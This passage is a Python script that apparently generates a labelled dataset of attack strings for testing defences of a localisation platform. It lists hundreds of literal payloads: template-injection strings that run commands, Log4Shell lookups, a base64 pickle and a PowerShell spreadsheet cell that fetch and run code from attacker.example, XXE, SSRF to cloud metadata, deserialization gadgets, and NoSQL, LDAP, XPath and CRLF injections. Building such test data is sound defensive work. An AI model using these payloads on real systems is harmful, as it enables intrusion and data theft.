    ("tm-import-json-minio", "{\"import_url\": \"http://127.0.0.1:9000/minio/admin/v3/info\", \"format\": \"tmx\"}"),
    ("screenshot-url-internal-admin-csv", "http://localhost:3000/admin/users.csv"),
    ("webhook-couchdb-all-dbs", "http://127.0.0.1:5984/_all_dbs"),
    ("webhook-kubectl-proxy", "http://127.0.0.1:8001/api/v1/namespaces/default/secrets"),
    ("webhook-actuator-heapdump", "http://127.0.0.1:8080/actuator/heapdump"),
    ("import-url-solr-admin", "http://localhost:8983/solr/admin/cores?action=STATUS"),
    ("webhook-dns-loopback-alias", "http://localhost.attacker.example:8080/internal/metrics"),
    ("import-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20l10n%0D%0AMAIL%20FROM%3A%3Cnoreply%40flowdesk.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.com%3E%0D%0ADATA%0D%0ASubject%3A%20Reset%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Freset%0D%0A.%0D%0AQUIT%0D%0A"),
    ("webhook-prometheus-targets", "http://127.0.0.1:9090/api/v1/targets"),
    ("webhook-node-inspector", "http://127.0.0.1:9229/json"),
    ("import-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("import-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("import-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("xliff-skeleton-external-file", "<skl><external-file href=\"http://127.0.0.1:8080/admin/config\"/></skl>"),
    ("mt-endpoint-internal-host", "http://10.0.0.12:8080/v2/translate?q=probe"),
]

# ---------------------------------------------------------------------------
# Code: SSTI, expression languages, lookups, deserialization, XXE, prototype
# pollution, CSV formulas
# ---------------------------------------------------------------------------
CODE = [
    ("translation-jinja2-builtins-popen", "Hallo {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("translation-jinja2-cycler-os", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("source-jinja2-subclasses-enum", "Save {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("translation-jinja2-request-open", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("comment-jinja2-config-leak", "Button label {{ config.items() }}"),
    ("translation-jinja2-attr-filter-chain", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("translation-jinja2-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("translation-twig-filter-system", "Bonjour {{ ['id']|filter('system') }}"),
    ("translation-twig-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("translation-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("translation-velocity-runtime-exec", "#set($rt = $class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
    ("email-template-erb-backtick", "Hallo <%= `id` %>"),
    ("translation-ruby-interpolation-eval", "Willkommen #{`id`}"),
    ("translation-smarty-system", "Willkommen {system('id')}"),
    ("plain-mako-import", "${__import__('os').popen('id').read()}"),
    ("translation-pug-unbuffered-code", "- global.process.mainModule.require('child_process').execSync('id')"),
    ("email-template-ejs-exec", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("translation-thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("translation-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/l10n')}"),
    ("plain-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("translation-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("icu-jinja2-ssti", "{count, plural, one {eine Datei} other { {{ cycler.__init__.__globals__.os.popen('id').read() }} Dateien}}"),
    ("python-format-globals-leak", "Hallo {user.__class__.__init__.__globals__[SECRET_KEY]}"),
    ("plain-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("translation-log4shell-lower-lookup-obfuscation", "${${lower:j}ndi:${lower:l}dap://198.51.100.3/x}"),
    ("comment-log4shell-env-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("translation-log4shell-default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("user-agent-log4shell-sys", "${jndi:ldap://${sys:java.version}.v.attacker.example/}"),
    ("translation-log4j-env-lookup", "Speichern ${env:DB_PASSWORD}"),
    ("tm-import-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3Auc2h8c2gnCnRSLg=="),
    ("locale-cookie-php-object-injection", "O:11:\"CacheDriver\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("yaml-bundle-python-apply", "de:\n  greeting: !!python/object/apply:os.system ['id']"),
    ("yaml-bundle-snakeyaml-classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("json-bundle-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("json-bundle-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("json-bundle-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/o\",\"autoCommit\":true}"),
    ("json-bundle-node-serialize-iife", "{\"label\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("screenshot-path-phar-deserialization", "phar:///var/www/uploads/screenshots/1842.jpg/x"),
    ("xliff-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE xliff [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<xliff version=\"1.2\"><file source-language=\"en\" target-language=\"de\" datatype=\"plaintext\" original=\"ui\"><body><trans-unit id=\"1\"><source>Home</source><target>&x;</target></trans-unit></body></file></xliff>"),
    ("tmx-xxe-parameter-entity-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE tmx [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]>\n<tmx version=\"1.4\"><header srclang=\"en\" datatype=\"plaintext\" segtype=\"sentence\" adminlang=\"en\" creationtool=\"x\" creationtoolversion=\"1\" o-tmf=\"x\"/><body/></tmx>"),
    ("android-xml-xxe-env", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE resources [<!ENTITY e SYSTEM \"file:///srv/l10n/.env\">]>\n<resources><string name=\"app_name\">&e;</string></resources>"),
    ("xliff-billion-laughs", "<!DOCTYPE xliff [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><xliff version=\"1.2\"><file original=\"x\" source-language=\"en\" datatype=\"plaintext\"><body><trans-unit id=\"1\"><source>&g;</source></trans-unit></body></file></xliff>"),
    ("xliff-xinclude-file", "<target xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></target>"),
    ("resx-xxe-ssrf", "<?xml version=\"1.0\"?>\n<!DOCTYPE root [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<root><data name=\"Title\"><value>&s;</value></data></root>"),
    ("screenshot-svg-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"40\"><text x=\"4\" y=\"24\">&h;</text></svg>"),
    ("xliff-xxe-php-expect", "<!DOCTYPE x [<!ENTITY r SYSTEM \"expect://id\">]><target>&r;</target>"),
    ("json-bundle-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("json-bundle-nested-proto-pollution", "{\"settings\": {\"title\": \"Einstellungen\", \"__proto__\": {\"role\": \"owner\"}}}"),
    ("json-bundle-constructor-prototype", "{\"constructor\": {\"prototype\": {\"canExport\": true, \"role\": \"admin\"}}}"),
    ("key-path-proto-pollution", "app.__proto__.isAdmin"),
    ("key-assign-proto-pollution-ejs-gadget", "__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s"),
    ("query-locale-proto-pollution", "locale[__proto__][admin]=1"),
    ("json-bundle-proto-lodash-sourceurl", "{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').execSync('id')\"}}"),
    ("csv-export-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2, \"Details\")"),
    ("csv-export-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-export-dde-powershell", "+SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/p.ps1|iex'!A0"),
    ("csv-export-at-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-export-importxml-exfil", "=IMPORTXML(CONCAT(\"https://attacker.example/?\", JOIN(\",\", A1:A20)), \"//a\")"),
    ("csv-export-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))"),
    ("plain-python-fstring-eval", "{__import__('os').system('id')}"),
    ("translation-node-template-literal-eval", "`${require('child_process').execSync('id')}`"),
    ("translation-php-complex-syntax-eval", "{${system('id')}}"),
    ("plain-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("translation-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("gettext-msgstr-jinja2-flashed", "msgid \"Save\"\nmsgstr \"{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}\""),
    ("translation-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("translation-razor-process-start", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\"); }"),
    ("translation-groovy-gstring-execute", "${\"id\".execute().text}"),
    ("translation-jinja2-config+urlenc", "%7B%7B%20config.items()%20%7D%7D"),
    ("icu-freemarker-execute", "{count, plural, other {${\"freemarker.template.utility.Execute\"?new()(\"id\")}}}"),
    ("translation-jinja2-comment-hidden", "Einstellungen{# ok #}{{ namespace.__init__.__globals__.os.popen('whoami').read() }}"),
    ("translation-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("yaml-bundle-jinja2-lipsum", "de:\n  greeting: \"{{ lipsum.__globals__.os.popen('id').read() }}\""),
    ("translation-commons-text-script", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
    ("translation-commons-text-url", "${url:UTF-8:http://169.254.169.254/latest/meta-data/}"),
    ("json-field-log4shell+unicode-escape", "$\\u007bjndi:ldap://attacker.example/z}"),
    ("tm-search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.8%2Fa%7D"),
    ("translation-log4shell-env-default-obfuscation", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/c}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection: value merged into a Mongo / Lucene / Mango query
# ---------------------------------------------------------------------------
NOSQLI = [
    ("json-filter-ne-null", "{\"locale\": {\"$ne\": null}}"),
    ("login-json-gt-empty", "{\"login\": \"admin\", \"password\": {\"$gt\": \"\"}}"),
    ("query-param-ne", "status[$ne]=approved"),
    ("query-param-regex-prefix", "key[$regex]=^admin\\."),
    ("plain-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-token-blind", "{\"$where\": \"this.api_token.startsWith('a')\"}"),
    ("where-string-breakout", "'; return this.role == 'admin' && '1'=='1"),
    ("json-or-operator", "{\"$or\": [{\"locale\": \"de\"}, {\"is_admin\": true}]}"),
    ("query-param-nin", "locale[$nin][]=xx"),
    ("aggregate-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("json-expr-function", "{\"project\": \"flowdesk\", \"$expr\": {\"$function\": {\"body\": \"function() { return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("tm-search-lucene-exists", "Speichern OR _exists_:password_hash"),
    ("query-param-regex-dotall", "translation[$regex]=.*&translation[$options]=s"),
    ("query-param-ne+urlenc", "password%5B%24ne%5D=x"),
    ("json-ne+unicode-escape", "{\"password\": {\"\\u0024ne\": \"\"}}"),
    ("json-where-busy-loop", "{\"$where\": \"function() { var d = new Date(); while (new Date() - d < 5000) {} return true; }\"}"),
    ("query-param-exists-ne", "glossary[term][$exists]=true&glossary[owner][$ne]=me"),
    ("json-and-regex-token-blind", "{\"$and\": [{\"role\": \"admin\"}, {\"reset_token\": {\"$regex\": \"^7\"}}]}"),
    ("couchdb-mango-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("plain-ne-operator", "{\"$ne\": \"\"}"),
    ("tm-search-lucene-field-wildcard", "target:* AND owner.email:*@flowdesk.example"),
    ("json-in-roles", "{\"login\": {\"$in\": [\"admin\", \"root\", \"owner\"]}, \"password\": {\"$exists\": true}}"),
    ("elastic-script-query", "{\"query\": {\"script\": {\"script\": {\"source\": \"doc['password_hash'].value.startsWith('$2b')\"}}}}"),
    ("json-regex-empty-match-all", "{\"source\": {\"$regex\": \"\", \"$options\": \"i\"}, \"project\": {\"$ne\": \"demo\"}}"),
]

# ---------------------------------------------------------------------------
# CRLF: log forging, HTTP header injection / response splitting, mail headers
# ---------------------------------------------------------------------------
CRLF = [
    ("content-language-set-cookie", "de-DE\r\nSet-Cookie: session=attacker; Path=/"),
    ("filename-response-splitting", "fr.json\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-set-cookie+urlenc", "%0d%0aSet-Cookie:%20sid=fixed"),
    ("redirect-location+double-urlenc", "%250d%250aLocation:%20https://attacker.example"),
    ("redirect-param-location", "/dashboard\r\nLocation: https://attacker.example/"),
    ("log-forged-line", "Approved segment 1842\n2024-05-17T10:22:31Z INFO user=admin action=export_all_projects result=success"),
    ("mail-subject-bcc", "Weekly digest\r\nBcc: everyone@attacker.example"),
    ("mail-display-name-cc", "Marta López\nCc: list@attacker.example\nX-Priority: 1"),
    ("smtp-data-smuggling", "ok\r\n.\r\nMAIL FROM:<ceo@flowdesk.example>\r\nRCPT TO:<finance@flowdesk.example>\r\nDATA\r\nSubject: Urgent\r\n\r\nPlease pay invoice 4711 today.\r\n.\r\n"),
    ("header-set-cookie+unicode-truncation", "de-DE\u010d\u010aSet-Cookie: x=1"),
    ("header-set-cookie+utf8-truncation-urlenc", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("log-json-forgery", "de\"}\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"permissions granted\""),
    ("log-syslog-forgery", "x\n<13>May 17 10:22:31 l10n-web sshd[811]: Accepted password for root from 203.0.113.50 port 50522 ssh2"),
    ("webhook-header-value-injection", "application/json\r\nX-Forwarded-For: 127.0.0.1"),
    ("content-disposition-response-splitting", "attachment; filename=\"de.xliff\"\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
    ("log-ansi-escape", "Löschen\u001b[2J\u001b[1;1HAll checks passed"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-lf-header+urlenc", "%0AX-Injected:%20yes"),
    ("filename-response-splitting-redirect", "Speichern.json\r\nContent-Length: 0\r\n\r\nHTTP/1.1 302 Found\r\nLocation: https://attacker.example/"),
    ("accept-language-header-injection", "de-CH,de;q=0.9\r\nX-Original-URL: /admin/users"),
    ("mail-subject-html-body", "Re: Review für „Einstellungen“\nContent-Type: text/html\n\n<a href=\"https://attacker.example/reset\">Passwort zurücksetzen</a>"),
    ("log-access-log-forgery", "Exported fr.json\r\n127.0.0.1 - admin [17/May/2024:10:22:31 +0000] \"GET /admin/backup HTTP/1.1\" 200 5120"),
    ("username-response-splitting+urlenc", "jmüller%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("commit-msg-trailer-injection", "Update de\n\nSigned-off-by: Lead Reviewer <lead@flowdesk.example>"),
    ("mail-subject-cr-only-bcc", "Release notes 3.2\rBcc: dump@attacker.example"),
    ("mail-reply-to-injection", "FlowDesk Notifications\r\nReply-To: support@attacker.example"),
    ("log-fake-audit-entry", "Einstellungen gespeichert\r\n[AUDIT] 2024-05-17 10:23:01 role_change user=mallory old=translator new=owner by=admin"),
    ("header-location-lf-only", "/de/\nLocation: //attacker.example/"),
    ("log-csv-row-injection", "Speichern\n1843,de,admin,approved,2024-05-17"),
]

# ---------------------------------------------------------------------------
# LDAP filter / XPath injection (reviewer directory, TMX/TBX lookups)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("ldap-reviewer-search-always-true", "*)(uid=*))(|(uid=*"),
    ("ldap-login-absolute-true", "admin)(&)"),
    ("ldap-group-membership", "*)(memberOf=cn=admins,ou=groups,dc=flowdesk,dc=example"),
    ("ldap-password-blind", "m*)(userPassword=a*"),
    ("ldap-description-search", "de*)(description=*secret*"),
    ("ldap-negation", "admin)(!(uid=nobody)"),
    ("ldap-null-truncation+urlenc", "*))%00"),
    ("ldap-or-mail", "jdoe)(|(mail=*@attacker.example)(cn=*"),
    ("ldap-always-true+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("plain-ldap-objectclass-enum", "*)(objectClass=*"),
    ("xpath-glossary-tautology", "Speichern' or 1=1 or 'a'='a"),
    ("xpath-tm-union-users", "Home'] | //user/password | //tu[tuv/seg='"),
    ("xpath-root-name-blind", "x' or name(/*[1])='tmx' and '1'='1"),
    ("xpath-password-length-blind", "Speichern' or string-length(//user[1]/password)>8 or 'a'='b"),
    ("xpath-token-substring-blind", "' or substring(//user[position()=1]/token,1,1)='a' or '"),
    ("xpath-select-all-nodes", "')] | //* | //*[('"),
    ("xpath-count-root", "de' and count(/*)=1 and 'x'='x"),
    ("xpath2-doc-oob", "x' or doc('http://attacker.example/p.xml') or '"),
    ("tbx-xpath-confidential", "Einstellungen'] | //termEntry/descrip[@type='confidential'] | //a['"),
    ("xquery-contains-credentials", "x' or contains(//credentials/text(), 'API') or '"),
    ("ldap-cn-wildcard-or", "Kenji*)(|(cn=*"),
    ("plain-xpath-tautology", "' or '1'='1"),
]

# ---------------------------------------------------------------------------
# Small hand-written pools for templates
# ---------------------------------------------------------------------------
CARRIERS = ["Speichern", "Abbrechen", "Paramètres", "Guardar", "保存", "設定", "Сохранить",
            "Zapisz", "Kaydet", "Opslaan", "حفظ", "שמור", "Salvar", "Tallenna", "Αποθήκευση"]

SQLI_TAILS = [
    ("tautology", "' OR '{w}'='{w}"),
    ("time-blind-mysql", "' AND SLEEP({n})-- -"),
    ("union-select", "' UNION SELECT NULL, login, password_hash FROM users-- -"),
    ("stacked-pg-sleep", "'; SELECT pg_sleep({n});--"),
    ("error-convert-mssql", "' AND 1=CONVERT(int, @@version)--"),
]
XSS_TAGS = [("img-onerror", "<img src=x onerror={js}>"), ("svg-onload", "<svg onload={js}>"),
            ("iframe-onload", "<iframe onload={js}>"), ("body-onpageshow", "<body onpageshow={js}>")]
XSS_JS = ["alert(1)", "alert(document.domain)", "print()", "confirm(document.cookie)"]
CMD_LOCALES = ["de_DE", "fr_FR", "es_ES", "ja_JP", "ko_KR", "pt_BR", "ar_EG", "he_IL"]
CMD_SEPS = [("semicolon", "{l};{c}"), ("pipe", "{l}|{c}"), ("and", "{l} && {c}"),
            ("or", "{l} || {c}"), ("backtick", "{l}`{c}`"), ("dollar-subst", "{l}$({c})")]
CMD_CMDS = ["id", "uname -a", "cat /etc/hostname", "sleep 6", "whoami"]
TRAV_PREFIXES = ["locales/", "res/values-de/", "po/", "i18n/fr/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/hosts", "proc/self/environ", "root/.bash_history", "var/log/auth.log"]
SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.5", "172.16.0.10", "192.168.1.20", "[::1]"]
SSRF_PORTS = [6379, 8080, 8500, 9200, 5601, 2375, 11211, 5432]
SSRF_PATHS = ["/", "/admin", "/metrics", "/debug/pprof/", "/env"]
CSV_CELLS = ["A2", "B2", "C2", "D5"]
CSV_LABELS = ["Details", "Kontext", "Aperçu", "詳細", "Ver más"]
NOSQL_FIELDS = ["owner", "locale", "status", "reviewer", "token"]
CRLF_HEADERS = ["Set-Cookie: sid=0000", "Location: https://attacker.example/", "X-Accel-Redirect: /internal/backup.tar"]
LDAP_NAMES = ["marta", "kenji", "amira", "olek", "priya"]


def t_sqli(rng):
    tech, tail = rng.choice(SQLI_TAILS)
    w = rng.choice(["x", "a", "1", "ok"])
    return (f"translation-{tech}",
            rng.choice(CARRIERS) + tail.replace("{w}", w).replace("{n}", str(rng.choice([4, 5, 6, 7, 8]))))


def t_xss(rng):
    tech, tag = rng.choice(XSS_TAGS)
    return (f"translation-{tech}", rng.choice(CARRIERS) + " " + tag.replace("{js}", rng.choice(XSS_JS)))


def t_cmdi(rng):
    tech, form = rng.choice(CMD_SEPS)
    return (f"locale-code-{tech}", form.format(l=rng.choice(CMD_LOCALES), c=rng.choice(CMD_CMDS)))


def t_traversal(rng):
    depth = rng.randrange(7, 12)
    return ("resource-path-dotdot", rng.choice(TRAV_PREFIXES) + "../" * depth + rng.choice(TRAV_TARGETS))


def t_ssrf(rng):
    return ("webhook-internal-port-probe",
            f"http://{rng.choice(SSRF_HOSTS)}:{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}")


def t_code(rng):
    cell = rng.choice(CSV_CELLS)
    return ("csv-export-hyperlink-exfil",
            f"=HYPERLINK(\"https://attacker.example/c?v=\"&{cell}, \"{rng.choice(CSV_LABELS)}\")")


def t_nosqli(rng):
    f = rng.choice(NOSQL_FIELDS)
    op = rng.choice(["$ne", "$gt", "$regex"])
    val = {"$ne": "x", "$gt": "", "$regex": ".*"}[op]
    return ("query-param-operator", f"{f}[{op}]={val}")


def t_crlf(rng):
    return ("filename-header-injection", f"{rng.choice(CARRIERS)}.json\r\n{rng.choice(CRLF_HEADERS)}")


def t_ldap(rng):
    return ("ldap-reviewer-search-always-true", f"{rng.choice(LDAP_NAMES)}*)(|(objectClass=*")


CATEGORIES = [
    ("sqli", SQLI, t_sqli),
    ("xss", XSS, t_xss),
    ("cmdi", CMDI, t_cmdi),
    ("traversal", TRAVERSAL, t_traversal),
    ("ssrf", SSRF, t_ssrf),
    ("code", CODE, t_code),
    ("nosqli", NOSQLI, t_nosqli),
    ("crlf", CRLF, t_crlf),
    ("ldap-xpath", LDAP_XPATH, t_ldap),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for name, literals, template in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {name}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        tries = 0
        while len(items) < TARGETS[name]:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {name} cannot produce enough unique values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((name, len(items), n_lit))
        for cls, v in items:
            rows.append((name, cls, v))

    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value: {v!r}")
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": cat, "class": cls,
                    "label": "attack", "value": v})

    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for obj in out:
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for name, n, n_lit in stats:
        total_lit += n_lit
        print(f"{name:12s} {n:4d}  literals {n_lit:3d}")
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d} ({100 * total_lit / len(out):.0f}%)"
          f"  plain- {n_plain}  encoded {n_enc}")


if __name__ == "__main__":
    main()
